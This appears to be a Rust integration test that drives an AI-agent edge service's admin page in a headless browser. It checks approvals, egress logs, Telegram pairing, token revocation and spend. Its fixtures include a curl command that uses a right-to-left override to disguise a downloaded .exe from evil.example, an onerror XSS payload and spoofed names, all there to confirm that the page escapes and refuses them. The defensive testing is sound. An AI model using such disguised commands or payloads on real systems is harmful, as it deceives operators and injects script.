//! The admin page in a real headless Chromium (`scripts/browser-admin.mjs`
//! drives it) against the real edge: its policy, its APIs, an `exec` question
//! a hostile agent asked, spend in the ledger, a login an hour old. What the
//! page showed and did is judged here, against the edge's own stores.
//! Screenshots are kept in `<target>/artifacts/browser/admin-*.png`.

use std::time::Duration;

use crate::admin::{ask_to_run, record_spend, wait_for};
use crate::support::{TestEdge, bearer, get, owner, request};
use chrono::Utc;
use hardshell_audit::AuditEvent;
use hardshell_audit::event::{EgressDecided, EgressDecision, ShellKind};
use hardshell_auth::TokenScope;
use hardshell_channels::{PairingRequest, Pairings, Platform, Sender};
use hardshell_storage::ObjectKey;
use hardshell_testkit::{browser, free_port};
use serde_json::Value;

const DEADLINE: Duration = Duration::from_secs(180);

/// A command an agent might ask to run to fool the owner: the override makes
/// the end of it read backwards, so "exe.txt" would show as "txt.exe".
const HOSTILE: &str = "curl -so report.\u{202e}txt.exe https://evil.example/x";

/// The agent asks to run `command`: the approval it waits on.
async fn pending(control: &std::path::Path, session: &str, command: &str) -> String {
    let answer = ask_to_run(control, session, command).await;
    assert_eq!(answer["status"], "pending", "{answer}");
    answer["approval"].as_str().unwrap().to_owned()
}

/// A part as its wiring answers it (`wiring/parts.rs` reads the real ones).
struct FixedPart(Result<Value, String>);

impl hardshell_edge::PartStatus for FixedPart {
    fn read(
        &self,
    ) -> std::pin::Pin<Box<dyn std::future::Future<Output = Result<Value, String>> + Send + '_>>
    {
        let answer = self.0.clone();
        Box::pin(async move { answer })
    }
}

/// A module whose author hid the end of their name and put markup in a
/// tool's description; a workload on an unpinned image; a part that fails.
fn parts() -> Vec<hardshell_edge::Part> {
    let module = serde_json::json!({
        "name": "weather",
        "version": "1.2.0",
        "publisher": "Evil\u{202E}corp",
        "key_name": "example",
        "key_id": "0123456789ABCDEF",
        "key": format!("sha256:{}", "b".repeat(64)),
        "official": false,
        "source": "https://modules.example/weather-1.2.0.tar",
        "package": format!("sha256:{}", "c".repeat(64)),
        "manifest": format!("sha256:{}", "d".repeat(64)),
        "capabilities": {
            "hosts": [{ "host": "api.weather.example", "port": 443, "methods": ["GET"] }],
            "public_web": true,
            "secrets": [{ "name": "WEATHER_KEY", "host": "api.weather.example" }],
            "workspace": "none",
            "memory_mb": 64,
            "timeout_ms": 5000,
        },
        "tools": [{ "name": "forecast", "description": "The weather. <img src=x onerror=alert(1)>" }],
        "accepted_at": 1_764_979_200,
    });
    let workload = serde_json::json!({
        "image": {
            "reference": "registry.test/openclaw:1",
            "digest": format!("sha256:{}", "a".repeat(64)),
            "pinned": false,
        },
        "health": "ready",
        "state": {
            "lease": { "holder": "host-a/1", "expires_at": "2026-12-07T10:00:00Z" },
            "current": {
                "generation": 7,
                "at": "2026-12-07T09:58:00Z",
                "files": 3,
                "bytes": 2048,
                "holder": "host-a/1",
            },
            "snapshots": 1,
        },
    });
    [
        ("modules", Ok(serde_json::json!({ "modules": [module] }))),
        ("workload", Ok(workload)),
        (
            "broken",
            Err("reading it failed: storage unavailable".to_owned()),
        ),
    ]
    .into_iter()
    .map(|(name, answer)| hardshell_edge::Part {
        name,
        status: std::sync::Arc::new(FixedPart(answer)),
    })
    .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_owner_runs_the_admin_page_in_a_real_browser() {
    browser::playwright_home();
    let port = free_port();
    let origin = format!("http://localhost:{port}");
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("agent.sock");
    crate::support::agent::start(&socket).await;
    let (edge, shell) = TestEdge::start_with_exec_parts(
        &format!("listen = \"127.0.0.1:{port}\"\npublic_url = \"{origin}\"\n"),
        "[ratelimit]\nrequests_per_minute = 100000\nburst = 1000\n\
         [llm]\nmonthly_cap_usd = 5.0\n\
         [channels.telegram]\nenabled = true\ntoken = \"secret:TG\"\n",
        &socket,
        parts(),
    )
    .await;
    let control = edge.control.clone().unwrap();

    // A chat with two questions waiting: one the owner will run, one hostile.
    let chat = edge.token(TokenScope::Chat).await;
    let created = request(edge.addr, "POST", "/api/sessions", &[&bearer(&chat)], "").await;
    let session: Value = serde_json::from_str(&created.body).unwrap();
    let session = session["id"].as_str().unwrap().to_owned();
    let run_me = "python3 -c 'print(42)'";
    let approve = pending(&control, &session, run_me).await;
    let deny = pending(&control, &session, HOSTILE).await;

    // Spend the model gateway recorded: $3 and $15 per million tokens.
    record_spend(&edge, 400_000, 20_000).await;

    // A shell was refused a host whose name hides its end, and reached
    // another (what the brokers record in the edge's log).
    let hostile_host = "evil.example\u{202e}gro.iypp";
    for (host, decision, reason) in [
        (
            hostile_host,
            EgressDecision::Refused,
            Some("no route allows this host"),
        ),
        ("pypi.org", EgressDecision::Allowed, None),
    ] {
        edge.audit
            .record_durable(AuditEvent::EgressDecided(EgressDecided {
                shell: ShellKind::Exec,
                host: host.to_owned(),
                port: 443,
                decision,
                reason: reason.map(str::to_owned),
                carriage: None,
            }))
            .await
            .unwrap();
    }

    // A stranger asked the Telegram bot to pair and was told its code.
    let pairings = Pairings::new(
        edge.store
            .root()
            .scope(&ObjectKey::parse("channels/pairing").unwrap())
            .unwrap(),
    );
    let stranger = Sender::parse(Platform::Telegram, "123456789").unwrap();
    let PairingRequest::Code(code) = pairings.request(&stranger, Utc::now()).await.unwrap() else {
        panic!("no pairing code");
    };

    let fresh = edge.session(owner()).await;
    let stale = edge
        .session(hardshell_auth::Principal {
            authenticated_at: Utc::now() - chrono::Duration::hours(1),
            ..owner()
        })
        .await;
    let shots = browser::artifacts();
    for name in ["admin-desktop.png", "admin-phone.png", "admin-failure.png"] {
        let _ = std::fs::remove_file(shots.join(name));
    }
    let args = [
        format!("--edge={origin}"),
        format!("--session={fresh}"),
        format!("--stale-session={stale}"),
        format!("--screenshot-dir={}", shots.display()),
        format!("--approve={approve}"),
        format!("--deny={deny}"),
        format!("--pairing-code={}", code.expose()),
        "--pairing-sender=telegram:123456789".to_owned(),
    ];
    let run = tokio::task::spawn_blocking(move || {
        browser::run_script("browser-admin.mjs", &args, DEADLINE)
    })
    .await
    .unwrap();
    let report = run.report();
    let run: Value = serde_json::from_str(report).unwrap_or_else(|e| panic!("{e}: {}", run.stdout));

    // A visitor is sent to the login, which comes back here.
    assert_eq!(run["denied_without_session"], "/login?next=/admin");
    // Every request stayed on the edge (the script fails on any other origin).
    assert!(
        run["requests"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r.as_str().unwrap().contains(" /")),
        "{run}"
    );

    // What the owner saw.
    assert_eq!(run["subject"], "owner");
    // Device certificates need TLS, which this edge has not: their section
    // is hidden on the API's 404, and every other one is shown.
    assert_eq!(
        run["hidden_sections"],
        serde_json::json!(["browser", "devices"]),
        "{run}"
    );
    assert_eq!(run["browser_hidden"], true, "{run}");

    // A module's author's words are text, shown beside what it may do.
    let module = &run["modules"]["list"][0];
    assert_eq!(module["name"], "weather", "{run}");
    assert_eq!(module["publisher"], "Evil\\u{202E}corp", "{run}");
    assert!(
        module["tools"][0]["description"]
            .as_str()
            .unwrap()
            .contains("<img src=x onerror=alert(1)>"),
        "{run}"
    );
    assert_eq!(run["img_elements"], 0, "{run}");
    assert_eq!(run["raw_hidden_characters"], serde_json::json!([]), "{run}");
    assert_eq!(module["public_web"]["widest"], true, "{run}");
    assert_eq!(module["public_web"]["first"], true, "{run}");
    assert_eq!(module["secrets"][0]["name"], "WEATHER_KEY", "{run}");
    assert_eq!(module["secrets"][0]["host"], "api.weather.example", "{run}");
    assert!(
        module["hosts"][0]
            .as_str()
            .unwrap()
            .contains("api.weather.example:443"),
        "{run}"
    );
    // The workload: its digest in full, an unpinned image as a warning.
    let workload = &run["workload"];
    assert_eq!(
        workload["digest"],
        format!("sha256:{}", "a".repeat(64)),
        "{run}"
    );
    assert_eq!(workload["unpinned_warning"], true, "{run}");
    assert_eq!(workload["health"], "ready", "{run}");
    assert_eq!(workload["state"]["generation"], "7", "{run}");
    // A part that could not be read says why.
    let other = run["other_parts"].as_array().unwrap();
    assert_eq!(other.len(), 1, "{run}");
    assert_eq!(other[0]["name"], "broken");
    assert!(
        other[0]["error"]
            .as_str()
            .unwrap()
            .contains("reading it failed: storage unavailable"),
        "{run}"
    );

    // Requests by outcome: the visitor's 401 and the stale login's 403 among
    // the refusals; a bar a minute for the last hour.
    let bars = run["requests_chart"]["bars"].as_array().unwrap();
    assert_eq!(bars.len(), 96, "{run}");
    let refused: u64 = bars.iter().map(|b| b["refused"].as_u64().unwrap()).sum();
    let served: u64 = bars.iter().map(|b| b["served"].as_u64().unwrap()).sum();
    assert!(refused >= 1 && served >= 10, "{bars:?}");
    assert_eq!(run["requests_hour_bars"], 60);
    // Where shells connected: the hidden override written out.
    let egress = run["egress"].as_array().unwrap();
    assert_eq!(egress.len(), 2, "{run}");
    let refused_host = egress
        .iter()
        .find(|row| row["decision"] == "refused")
        .unwrap();
    assert_eq!(
        refused_host["host"],
        format!("{}:443", hostile_host.replace('\u{202e}', "\\u{202E}"))
    );
    assert_eq!(refused_host["reason"], "no route allows this host");
    assert_eq!(refused_host["shell"], "exec");
    assert!(run["shells"].is_array());

    // The pairing: waiting, approved as a guest by its code, then revoked.
    assert_eq!(
        run["pairing_pending"],
        serde_json::json!(["telegram:123456789"])
    );
    assert_eq!(
        run["pairing_paired"],
        serde_json::json!([{"sender": "telegram:123456789", "role": "guest"}])
    );
    assert_eq!(run["pairing_after_revoke"], serde_json::json!([]));
    assert!(pairings.paired(&stranger).await.unwrap().is_none());
    let records = edge.audit_records().await;
    for kind in ["pairing_approved", "pairing_revoked"] {
        assert!(
            records
                .iter()
                .any(|r| r["event"]["type"] == kind && r["event"]["actor"] == "owner"),
            "{kind}"
        );
    }
    let verified = run["audit_verify"].as_str().unwrap();
    assert!(
        verified.contains("edge-test") && verified.contains("intact") && !verified.contains("NOT"),
        "{verified}"
    );
    let bars = run["spend"]["bars"].as_array().unwrap();
    assert_eq!(bars.len(), 1, "{run}");
    assert_eq!(bars[0]["label"], "anthropic/claude-test");
    // 0.4 M × $3 + 0.02 M × $15 = $1.50, against a $5 cap.
    assert!(
        bars[0]["amount"].as_str().unwrap().contains("1.50"),
        "{bars:?}"
    );
    assert!(
        run["spend"]["cap"]
            .as_str()
            .unwrap_or_default()
            .contains('5'),
        "{run}"
    );
    let shown: Vec<(&str, &str)> = run["approvals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["approval"].as_str().unwrap(),
                a["command"].as_str().unwrap(),
            )
        })
        .collect();
    // The override is written out, never obeyed.
    let written_out = HOSTILE.replace('\u{202e}', "\\u{202E}");
    assert!(shown.contains(&(approve.as_str(), run_me)), "{shown:?}");
    assert!(
        shown.contains(&(deny.as_str(), written_out.as_str())),
        "{shown:?}"
    );
    assert!(run["audit_rows"].as_array().unwrap().iter().any(|row| {
        row["type"] == "exec_decided"
            && row["details"]
                .as_str()
                .unwrap()
                .contains(&format!("session={session}"))
    }));

    // The token was shown once, worked, and stopped working when revoked.
    let token = run["token"]["shown"].as_str().unwrap();
    assert!(token.starts_with("hs_tok_"), "{run}");
    assert_eq!(run["token"]["copied"], true);
    assert_eq!(run["revoked"]["listed"]["status"], "revoked");
    assert_eq!(
        get(edge.addr, "/auth/whoami", &[&bearer(token)])
            .await
            .status,
        401
    );
    let link = run["setup_link"].as_str().unwrap();
    assert!(
        link.starts_with(&format!("{origin}/login#setup=")),
        "{link}"
    );

    // The answers: one ran, the hostile one never will.
    let answered = run["answered"].as_array().unwrap();
    assert_eq!(answered.len(), 2, "{run}");
    // The agent's waits get the owner's answers: only the approved one runs.
    assert_eq!(wait_for(&control, &approve).await["status"], "ran");
    assert_eq!(wait_for(&control, &deny).await["status"], "refused");
    assert_eq!(shell.ran(), [run_me]);
    let listed = get(
        edge.addr,
        "/admin/approvals",
        &[&format!("Cookie: hs_session={fresh}")],
    )
    .await;
    assert_eq!(listed.body, r#"{"approvals":[]}"#);

    // The audit filter.
    let filter = &run["audit_filter"];
    let by_type = filter["type_rows"].as_array().unwrap();
    assert!(!by_type.is_empty(), "{filter}");
    assert!(by_type.iter().all(|row| row["type"] == "token_created"));
    assert!(
        filter["type_query"]
            .as_str()
            .unwrap()
            .contains("type=token_created")
    );
    assert_eq!(filter["principal_rows"], 0);
    assert_eq!(filter["principal_empty_shown"], true);

    // A login an hour old is told to sign in again and makes nothing.
    let stale = &run["stale"];
    assert_eq!(stale["status"], 403);
    assert!(
        stale["message"]
            .as_str()
            .unwrap()
            .contains("needs a recent login"),
        "{stale}"
    );
    assert_eq!(stale["sign_in_again"], true);
    assert_eq!(stale["secret_shown"], false);
    assert_eq!(stale["tokens_before"], stale["tokens_after"]);
    let names: Vec<String> = edge
        .tokens()
        .list()
        .await
        .unwrap()
        .iter()
        .map(|t| t.name.clone())
        .collect();
    assert!(names.contains(&"page-token".to_owned()), "{names:?}");
    assert!(!names.contains(&"stale-token".to_owned()), "{names:?}");

    for name in ["admin-desktop.png", "admin-phone.png"] {
        let size = std::fs::metadata(shots.join(name)).unwrap().len();
        assert!(size > 10_000, "{name} is {size} bytes");
    }
    edge.stop().await;
}
